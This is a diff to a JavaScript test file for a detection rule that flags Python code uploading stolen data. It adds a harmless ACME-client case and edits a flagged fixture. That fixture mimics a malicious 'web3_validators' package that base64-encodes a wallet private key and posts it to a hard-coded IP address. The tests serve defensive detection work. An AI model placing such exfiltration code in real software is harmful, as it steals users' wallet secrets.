@@ -4,6 +4,11 @@ import rule from './py-upload-stolen-data.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'an ACME client posting a JWS signed with its account private key',
+      file: 'acme.py',
+      code: `import requests\ndef post(url, payload, private_key):\n    body = jws_sign(payload, private_key)\n    return requests.post(url, data=body)\n`,
+    },
+    {
       name: 'uploading a folder the user chose',
       file: 'backup.py',
       code: `import os, requests\ndef backup(folder):\n    for root, dirs, files in os.walk(folder):\n        for f in files:\n            with open(os.path.join(root, f), 'rb') as fh:\n                requests.post("https://backup.example.org/put", files={"f": fh})\n`,
@@ -46,8 +51,8 @@ ruleTest(rule, {
     {
       name: 'private key posted to a validator endpoint',
       file: 'web3_validators/__init__.py',
-      code: `import base64, requests\nURL = "http://141.98.197.171:8000/api/v1/validate"\ndef validate(from_private_key):\n    payload = {"signature": base64.b64encode(from_private_key.encode()).decode()}\n    requests.post(URL, json=payload)\n`,
-      findings: [{ line: 5, severity: 'high', confidence: 'medium', message: /sends a wallet secret \(private_key\)/ }],
+      code: `import base64, requests\nfrom web3 import Web3\nURL = "http://141.98.197.171:8000/api/v1/validate"\ndef validate(from_private_key):\n    payload = {"signature": base64.b64encode(from_private_key.encode()).decode()}\n    requests.post(URL, json=payload)\n`,
+      findings: [{ line: 6, severity: 'high', confidence: 'medium', message: /sends a wallet secret \(private_key\)/ }],
     },
   ],
 });
